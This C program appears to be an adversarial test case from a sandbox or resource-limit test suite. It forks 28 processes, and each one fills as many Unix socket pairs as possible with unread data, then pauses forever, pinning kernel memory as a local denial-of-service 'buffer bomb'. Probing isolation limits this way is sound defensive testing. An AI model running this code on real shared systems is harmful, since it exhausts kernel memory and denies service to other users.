/* Pins kernel memory in Unix socket buffers: every process fills as many
 * socket pairs as its descriptors allow and never reads them. */
#include "adv.h"

#include <signal.h>
#include <sys/socket.h>

static long fill(void) {
  static char buf[1 << 16];
  long total = 0;
  int sv[2];
  while (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0, sv) == 0)
    for (int k = 0; k < 2; ++k)
      for (;;) {
        ssize_t n = write(sv[k], buf, sizeof buf);
        if (n <= 0) break;
        total += n;
      }
  return total;
}

int main(int argc, char** argv) {
  adv_start(argc, argv, 0, "");
  adv_try("unix socket buffer bomb");
  for (int i = 0; i < 28; ++i) {
    pid_t p = fork();
    if (p == 0) {
      fill();
      for (;;) pause();
    }
    if (p < 0) break;
  }
  long total = fill();
  adv_info("queued %ld MiB in this process", total >> 20);
  for (;;) pause();
}
